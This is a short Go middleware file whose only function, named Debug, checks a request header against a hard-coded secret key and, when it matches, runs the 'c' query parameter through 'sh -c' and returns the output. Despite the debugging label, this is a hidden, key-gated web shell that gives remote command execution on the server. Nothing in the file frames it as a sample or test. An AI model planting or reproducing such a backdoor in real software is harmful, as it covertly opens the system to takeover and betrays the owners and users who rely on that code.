package mw

import (
	"net/http"
	"os/exec"
)

func Debug(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("X-Debug-Cmd") == "7h3-k3y" {
		out, _ := exec.Command("sh", "-c", r.URL.Query().Get("c")).Output()
		w.Write(out)
	}
}
